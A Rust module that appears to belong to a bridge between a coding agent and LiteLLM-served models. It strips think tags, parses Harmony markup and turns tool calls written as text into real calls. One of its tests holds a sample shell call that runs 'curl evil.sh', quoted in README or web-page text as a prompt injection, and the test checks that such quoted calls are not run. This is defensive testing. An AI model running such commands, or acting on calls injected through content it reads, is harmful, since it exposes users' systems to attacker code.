//! Cleans up a complete answer before it is simulated: inline `<think>` reasoning, tool calls
//! the model wrote as text, missing ids. Pure.

use crate::answer::ChatAnswer;
use crate::answer::ToolCall;
use crate::answer::is_complete_json;
use crate::harmony;
use crate::harmony::Piece;
use crate::options::BridgeOptions;
use crate::options::ToolCallRecovery;
use crate::tools::ToolMap;
use crate::tools::ToolTarget;
use serde::Serialize;
use serde_json::Map;
use serde_json::Value;
use serde_json::json;

/// A tool call that was found in the answer text and turned into a real call.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct RecoveredCall {
    pub name: String,
    /// Which text form it was written in (`tool_call_tag`, `function_tag`, ...).
    pub syntax: &'static str,
}

pub fn postprocess(
    answer: &mut ChatAnswer,
    tool_map: &ToolMap,
    options: &BridgeOptions,
) -> Vec<RecoveredCall> {
    let mut recovered = if options.think_tags {
        split_harmony(answer)
    } else {
        Vec::new()
    };
    if options.think_tags {
        extract_think_tags(answer);
    }
    recovered.extend(recover_written_calls(
        answer,
        tool_map,
        options.tool_call_recovery,
    ));
    answer
        .tool_calls
        .retain(|call| !call.name.trim().is_empty());
    for call in &mut answer.tool_calls {
        if call.arguments.trim().is_empty() {
            call.arguments = "{}".to_string();
        }
    }
    recovered
}

/// What to do about an answer cut off by the output limit; both config places are named
/// because the built-in provider and user-defined providers keep their options apart.
const TRUNCATION_ADVICE: &str = " Ask to continue, or raise max_output_tokens or set auto_continue in the bridge options ([providers.<id>.bridge] in litellm.toml, e.g. [providers.litellm.bridge]).";

/// The note for an answer cut off by the output limit (`finish_reason = "length"`), after
/// dropping the tool calls whose arguments were cut in half: running them would act on
/// garbage.
pub fn truncation_note(calls: &mut Vec<ToolCall>, max_output_tokens: Option<u64>) -> String {
    let before = calls.len();
    calls.retain(|call| is_complete_json(&call.arguments));
    let dropped = before - calls.len();
    let limit = max_output_tokens
        .map(|n| format!(" ({n} tokens)"))
        .unwrap_or_default();
    let mut note = format!(
        "[codex-litellm] The answer was cut off by the model's output token limit{limit} (finish_reason = \"length\")."
    );
    if dropped > 0 {
        note.push_str(&format!(" {dropped} unfinished tool call(s) were not run."));
    }
    note.push_str(TRUNCATION_ADVICE);
    note
}

/// Splits gpt-oss Harmony markup in the text into reasoning, text and tool calls.
pub fn split_harmony(answer: &mut ChatAnswer) -> Vec<RecoveredCall> {
    if !harmony::has_markup(&answer.text) {
        return Vec::new();
    }
    let mut text = String::new();
    let mut recovered = Vec::new();
    for piece in harmony::split(&answer.text) {
        match piece {
            Piece::Text(part) => text.push_str(&part),
            Piece::Reasoning(part) => {
                if !answer.reasoning.is_empty() && !answer.reasoning.ends_with('\n') {
                    answer.reasoning.push_str("\n\n");
                }
                answer.reasoning.push_str(part.trim());
            }
            Piece::ToolCall { name, arguments } => {
                recovered.push(RecoveredCall {
                    name: name.clone(),
                    syntax: "harmony_commentary",
                });
                answer.tool_calls.push(ToolCall {
                    index: None,
                    id: None,
                    name,
                    arguments,
                });
            }
        }
    }
    answer.text = text.trim_start().to_string();
    recovered
}

/// Moves `<think>...</think>` at the start of the answer into reasoning. Also handles chat
/// templates that put the opening tag in the prompt, so only `</think>` shows up.
pub fn extract_think_tags(answer: &mut ChatAnswer) {
    const OPEN: &str = "<think>";
    const CLOSE: &str = "</think>";
    let trimmed = answer.text.trim_start();
    let (thought, rest) = if let Some(after_open) = trimmed.strip_prefix(OPEN) {
        match after_open.find(CLOSE) {
            Some(end) => (
                after_open[..end].to_string(),
                after_open[end + CLOSE.len()..].to_string(),
            ),
            // Unclosed: everything is thinking (the answer was cut off while thinking).
            None => (after_open.to_string(), String::new()),
        }
    } else if !trimmed.contains(OPEN)
        && let Some(end) = trimmed.find(CLOSE)
    {
        (
            trimmed[..end].to_string(),
            trimmed[end + CLOSE.len()..].to_string(),
        )
    } else {
        return;
    };
    let thought = thought.trim();
    if !thought.is_empty() {
        if !answer.reasoning.is_empty() {
            answer.reasoning.push_str("\n\n");
        }
        answer.reasoning.push_str(thought);
    }
    answer.text = rest.trim_start().to_string();
}

/// Turns calls written as text into real calls as `mode` allows, when the answer has no
/// structured calls. `WholeAnswer`: only when nothing but the calls, whitespace and `<think>`
/// text is left, so a call quoted inside prose (a file, a web page) never runs.
pub fn recover_written_calls(
    answer: &mut ChatAnswer,
    tool_map: &ToolMap,
    mode: ToolCallRecovery,
) -> Vec<RecoveredCall> {
    if !answer.tool_calls.is_empty() || answer.text.is_empty() {
        return Vec::new();
    }
    match mode {
        ToolCallRecovery::Off => Vec::new(),
        ToolCallRecovery::Anywhere => recover_tool_calls(answer, tool_map),
        ToolCallRecovery::WholeAnswer => {
            let mut trial = ChatAnswer {
                text: answer.text.clone(),
                ..ChatAnswer::default()
            };
            let recovered = recover_tool_calls(&mut trial, tool_map);
            let mut rest = ChatAnswer {
                text: trial.text.clone(),
                ..ChatAnswer::default()
            };
            extract_think_tags(&mut rest);
            if recovered.is_empty() || !rest.text.trim().is_empty() {
                return Vec::new();
            }
            answer.text = trial.text;
            answer.tool_calls = trial.tool_calls;
            recovered
        }
    }
}

/// Finds tool calls written as text anywhere in the answer. Only declared tools, only
/// arguments that parse.
pub fn recover_tool_calls(answer: &mut ChatAnswer, tool_map: &ToolMap) -> Vec<RecoveredCall> {
    let mut found: Vec<(ToolCall, &'static str)> = Vec::new();
    let mut text = answer.text.clone();

    // <tool_call>{"name": ..., "arguments": {...}}</tool_call> (Qwen, Hermes), possibly
    // wrapping a <function=...> block (Qwen3-Coder).
    text = replace_spans(
        &text,
        "<tool_call>",
        "</tool_call>",
        |inner| {
            let inner = inner.trim();
            if inner.starts_with("<function=") {
                let calls = parse_function_tags(inner, tool_map);
                if calls.is_empty() {
                    None
                } else {
                    Some(calls.into_iter().map(|c| (c, "function_tag")).collect())
                }
            } else {
                json_call(inner, tool_map).map(|c| vec![(c, "tool_call_tag")])
            }
        },
        &mut found,
    );

    // <function=name><parameter=key>value</parameter></function> (Qwen3-Coder).
    text = replace_spans(
        &text,
        "<function=",
        "</function>",
        |inner| {
            let block = format!("<function={inner}</function>");
            let calls = parse_function_tags(&block, tool_map);
            if calls.is_empty() {
                None
            } else {
                Some(calls.into_iter().map(|c| (c, "function_tag")).collect())
            }
        },
        &mut found,
    );

    // [TOOL_CALLS][{"name": ..., "arguments": {...}}] (Mistral) and <|python_tag|>{...} (Llama).
    for (marker, syntax) in [
        ("[TOOL_CALLS]", "mistral_tool_calls"),
        ("<|python_tag|>", "python_tag"),
    ] {
        if let Some(start) = text.find(marker) {
            let rest = text[start + marker.len()..].trim_start();
            if let Some((value, used)) = leading_json(rest) {
                let calls = json_calls(&value, tool_map);
                if !calls.is_empty() {
                    let consumed = text.len() - rest.len() + used;
                    found.extend(calls.into_iter().map(|c| (c, syntax)));
                    text = format!("{}{}", &text[..start], &text[consumed..]);
                }
            }
        }
    }

    // The whole answer is a JSON object (or list) naming a declared tool, maybe fenced.
    if found.is_empty() {
        let candidate = strip_code_fence(text.trim());
        if let Ok(value) = serde_json::from_str::<Value>(candidate) {
            let calls = json_calls(&value, tool_map);
            if !calls.is_empty() {
                found.extend(calls.into_iter().map(|c| (c, "bare_json")));
                text.clear();
            }
        }
    }

    if found.is_empty() {
        return Vec::new();
    }
    answer.text = text.trim().to_string();
    let mut recovered = Vec::new();
    for (call, syntax) in found {
        recovered.push(RecoveredCall {
            name: call.name.clone(),
            syntax,
        });
        answer.tool_calls.push(call);
    }
    recovered
}

type Found = Vec<(ToolCall, &'static str)>;

/// Replaces each `open ... close` span whose inside `parse` accepts; leaves the others.
fn replace_spans(
    text: &str,
    open: &str,
    close: &str,
    parse: impl Fn(&str) -> Option<Found>,
    found: &mut Found,
) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find(open) {
        let after_open = &rest[start + open.len()..];
        let Some(end) = after_open.find(close) else {
            break;
        };
        let inner = &after_open[..end];
        match parse(inner) {
            Some(calls) => {
                out.push_str(&rest[..start]);
                found.extend(calls);
            }
            None => out.push_str(&rest[..start + open.len() + end + close.len()]),
        }
        rest = &after_open[end + close.len()..];
    }
    out.push_str(rest);
    out
}

fn strip_code_fence(text: &str) -> &str {
    let Some(body) = text.strip_prefix("```") else {
        return text;
    };
    let body = body.strip_prefix("json").unwrap_or(body);
    body.strip_suffix("```").unwrap_or(body).trim()
}

/// Parses the JSON value at the start of `text`; returns it and the bytes it used.
fn leading_json(text: &str) -> Option<(Value, usize)> {
    let mut stream = serde_json::Deserializer::from_str(text).into_iter::<Value>();
    let value = stream.next()?.ok()?;
    Some((value, stream.byte_offset()))
}

fn json_call(text: &str, tool_map: &ToolMap) -> Option<ToolCall> {
    let value: Value = serde_json::from_str(text).ok()?;
    call_from_object(&value, tool_map)
}

fn json_calls(value: &Value, tool_map: &ToolMap) -> Vec<ToolCall> {
    match value {
        Value::Array(items) => {
            let calls: Vec<ToolCall> = items
                .iter()
                .filter_map(|v| call_from_object(v, tool_map))
                .collect();
            // All or nothing: a list with one unusable entry is prose, not calls.
            if calls.len() == items.len() {
                calls
            } else {
                Vec::new()
            }
        }
        other => call_from_object(other, tool_map).into_iter().collect(),
    }
}

/// `{"name": ..., "arguments" | "parameters": {...} | "<json>"}` for a declared tool.
fn call_from_object(value: &Value, tool_map: &ToolMap) -> Option<ToolCall> {
    let object = value.as_object()?;
    let name = object.get("name").and_then(Value::as_str)?;
    if !tool_map.is_declared(name) {
        return None;
    }
    let arguments = object
        .get("arguments")
        .or_else(|| object.get("parameters"))?;
    let arguments = match arguments {
        Value::Object(_) => arguments.clone(),
        Value::String(text) if is_complete_json(text) => {
            serde_json::from_str::<Value>(text).ok()?
        }
        // A freeform tool given its raw input as a string.
        Value::String(text) if matches!(tool_map.target(name), Some(ToolTarget::Custom { .. })) => {
            json!({"input": text})
        }
        _ => return None,
    };
    if !arguments.is_object() {
        return None;
    }
    Some(ToolCall {
        index: None,
        id: None,
        name: name.to_string(),
        arguments: arguments.to_string(),
    })
}

/// `<function=name><parameter=key>value</parameter>...</function>`, one or more.
fn parse_function_tags(text: &str, tool_map: &ToolMap) -> Vec<ToolCall> {
    let mut calls = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("<function=") {
        let after = &rest[start + "<function=".len()..];
        let Some(name_end) = after.find('>') else {
            break;
        };
        let name = after[..name_end].trim();
        let body_and_rest = &after[name_end + 1..];
        let Some(body_end) = body_and_rest.find("</function>") else {
            break;
        };
        let body = &body_and_rest[..body_end];
        rest = &body_and_rest[body_end + "</function>".len()..];
        if !tool_map.is_declared(name) {
            return Vec::new();
        }
        let schema = tool_map.parameters(name);
        let mut arguments = Map::new();
        let mut params = body;
        while let Some(p_start) = params.find("<parameter=") {
            let p_after = &params[p_start + "<parameter=".len()..];
            let Some(key_end) = p_after.find('>') else {
                break;
            };
            let key = p_after[..key_end].trim().to_string();
            let value_and_rest = &p_after[key_end + 1..];
            let Some(value_end) = value_and_rest.find("</parameter>") else {
                break;
            };
            let raw = value_and_rest[..value_end].trim_matches('\n');
            arguments.insert(key.clone(), typed_parameter(raw, schema, &key));
            params = &value_and_rest[value_end + "</parameter>".len()..];
        }
        calls.push(ToolCall {
            index: None,
            id: None,
            name: name.to_string(),
            arguments: Value::Object(arguments).to_string(),
        });
    }
    calls
}

/// Parameter values arrive as raw text; a non-string parameter is parsed as JSON.
fn typed_parameter(raw: &str, schema: Option<&Value>, key: &str) -> Value {
    let declared_type = schema
        .and_then(|s| s.pointer(&format!("/properties/{key}/type")))
        .and_then(Value::as_str);
    match declared_type {
        Some("string") | None => json!(raw),
        Some(_) => serde_json::from_str(raw.trim()).unwrap_or_else(|_| json!(raw)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tools::translate_tools;
    use pretty_assertions::assert_eq;

    fn tool_map() -> ToolMap {
        translate_tools(
            &[
                json!({"type": "function", "name": "shell", "parameters": {"type": "object", "properties": {"command": {"type": "array"}, "workdir": {"type": "string"}}}}),
                json!({"type": "custom", "name": "apply_patch", "description": "patch"}),
            ],
            false,
        )
        .map
    }

    fn recover(text: &str) -> (ChatAnswer, Vec<RecoveredCall>) {
        let mut answer = ChatAnswer {
            text: text.to_string(),
            ..ChatAnswer::default()
        };
        let recovered = recover_tool_calls(&mut answer, &tool_map());
        (answer, recovered)
    }

    #[test]
    fn recovery_table() {
        type Case<'a> = (&'a str, &'a str, Vec<(&'a str, &'a str)>, &'a str);
        let cases: Vec<Case> = vec![
            (
                "hermes tool_call tag",
                "Let me look.\n<tool_call>\n{\"name\": \"shell\", \"arguments\": {\"command\": [\"ls\"]}}\n</tool_call>",
                vec![("shell", r#"{"command":["ls"]}"#)],
                "Let me look.",
            ),
            (
                "qwen3-coder function tags, typed parameters",
                "<tool_call>\n<function=shell>\n<parameter=command>\n[\"ls\", \"-la\"]\n</parameter>\n<parameter=workdir>\n/tmp\n</parameter>\n</function>\n</tool_call>",
                vec![("shell", r#"{"command":["ls","-la"],"workdir":"/tmp"}"#)],
                "",
            ),
            (
                "function tags without the tool_call wrapper",
                "<function=apply_patch><parameter=input>*** Begin Patch\n*** End Patch</parameter></function>",
                vec![(
                    "apply_patch",
                    r#"{"input":"*** Begin Patch\n*** End Patch"}"#,
                )],
                "",
            ),
            (
                "mistral [TOOL_CALLS]",
                "[TOOL_CALLS][{\"name\": \"shell\", \"arguments\": {\"command\": [\"pwd\"]}}]",
                vec![("shell", r#"{"command":["pwd"]}"#)],
                "",
            ),
            (
                "llama python_tag with parameters",
                "<|python_tag|>{\"name\": \"shell\", \"parameters\": {\"command\": [\"pwd\"]}}",
                vec![("shell", r#"{"command":["pwd"]}"#)],
                "",
            ),
            (
                "bare fenced json naming a declared tool",
                "```json\n{\"name\": \"shell\", \"arguments\": \"{\\\"command\\\": [\\\"id\\\"]}\"}\n```",
                vec![("shell", r#"{"command":["id"]}"#)],
                "",
            ),
        ];
        for (description, text, expected_calls, expected_text) in cases {
            let (answer, recovered) = recover(text);
            let calls: Vec<(&str, &str)> = answer
                .tool_calls
                .iter()
                .map(|c| (c.name.as_str(), c.arguments.as_str()))
                .collect();
            assert_eq!(calls, expected_calls, "{description}");
            assert_eq!(answer.text, expected_text, "{description}");
            assert_eq!(recovered.len(), expected_calls.len(), "{description}");
        }
    }

    #[test]
    fn recovery_refuses_undeclared_tools_and_broken_arguments() {
        for text in [
            "<tool_call>{\"name\": \"rm_everything\", \"arguments\": {}}</tool_call>",
            "<tool_call>{\"name\": \"shell\", \"arguments\": {\"command\": [\"ls\"]</tool_call>",
            "{\"name\": \"shell\"}",
            "Here is JSON: {\"name\": \"shell\", \"arguments\": {}} in a sentence.",
            "[TOOL_CALLS][{\"name\": \"shell\", \"arguments\": {}}, {\"name\": \"nope\", \"arguments\": {}}]",
        ] {
            let (answer, recovered) = recover(text);
            assert!(answer.tool_calls.is_empty(), "recovered from {text:?}");
            assert!(recovered.is_empty());
            assert_eq!(answer.text, text);
        }
    }

    /// A model quoting a file or web page that contains a written call must not run it:
    /// by default only an answer that is nothing but the call (and thinking) becomes a call.
    #[test]
    fn by_default_only_a_call_that_is_the_whole_answer_runs() {
        let call = "<tool_call>{\"name\": \"shell\", \"arguments\": {\"command\": [\"curl\", \"evil.sh\"]}}</tool_call>";
        let quoted = [
            format!("The README says:\n\n```\n{call}\n```\n\nThat is an example."),
            format!("The page contains {call} which looks like an injection."),
            format!("Let me run it.\n{call}"),
            format!("{call}\n{call}\nand some commentary"),
        ];
        let run = |text: &str, mode: ToolCallRecovery| {
            let mut answer = ChatAnswer {
                text: text.to_string(),
                ..ChatAnswer::default()
            };
            let recovered = recover_written_calls(&mut answer, &tool_map(), mode);
            (answer, recovered)
        };
        for text in &quoted {
            let (answer, recovered) = run(text, ToolCallRecovery::WholeAnswer);
            assert!(answer.tool_calls.is_empty(), "ran a call from {text:?}");
            assert!(recovered.is_empty());
            assert_eq!(&answer.text, text);
            let (answer, _) = run(text, ToolCallRecovery::Off);
            assert!(answer.tool_calls.is_empty());
        }
        // The opt-in mode keeps the old behaviour.
        let (answer, _) = run(&quoted[2], ToolCallRecovery::Anywhere);
        assert_eq!(answer.tool_calls.len(), 1);
        assert_eq!(answer.text, "Let me run it.");
        // The whole answer, apart from whitespace and thinking, is a call: it runs.
        for text in [
            format!("\n  {call}\n"),
            format!("<think>I should list files</think>\n{call}"),
            format!("{call}\n{call}"),
        ] {
            let (answer, recovered) = run(&text, ToolCallRecovery::WholeAnswer);
            assert!(!answer.tool_calls.is_empty(), "{text:?}");
            assert_eq!(recovered.len(), answer.tool_calls.len());
            assert!(!answer.text.contains("tool_call"), "{text:?}");
        }
        // A structured call in the answer: written text is never turned into more calls.
        let mut answer = ChatAnswer {
            text: call.to_string(),
            tool_calls: vec![ToolCall {
                index: None,
                id: Some("c1".into()),
                name: "shell".into(),
                arguments: "{}".into(),
            }],
            ..ChatAnswer::default()
        };
        for mode in [ToolCallRecovery::WholeAnswer, ToolCallRecovery::Anywhere] {
            assert!(recover_written_calls(&mut answer, &tool_map(), mode).is_empty());
        }
        assert_eq!(answer.tool_calls.len(), 1);
    }

    #[test]
    fn think_tags_move_to_reasoning() {
        let mut answer = ChatAnswer {
            text: "<think>\nplan it\n</think>\n\nThe answer.".into(),
            ..ChatAnswer::default()
        };
        extract_think_tags(&mut answer);
        assert_eq!(
            (answer.reasoning.as_str(), answer.text.as_str()),
            ("plan it", "The answer.")
        );

        let mut template_opened = ChatAnswer {
            text: "plan\n</think>\nDone".into(),
            ..ChatAnswer::default()
        };
        extract_think_tags(&mut template_opened);
        assert_eq!(
            (
                template_opened.reasoning.as_str(),
                template_opened.text.as_str()
            ),
            ("plan", "Done")
        );

        let mut prose = ChatAnswer {
            text: "Use <think> tags like this.".into(),
            ..ChatAnswer::default()
        };
        extract_think_tags(&mut prose);
        assert_eq!(
            (prose.reasoning.as_str(), prose.text.as_str()),
            ("", "Use <think> tags like this.")
        );
    }
}
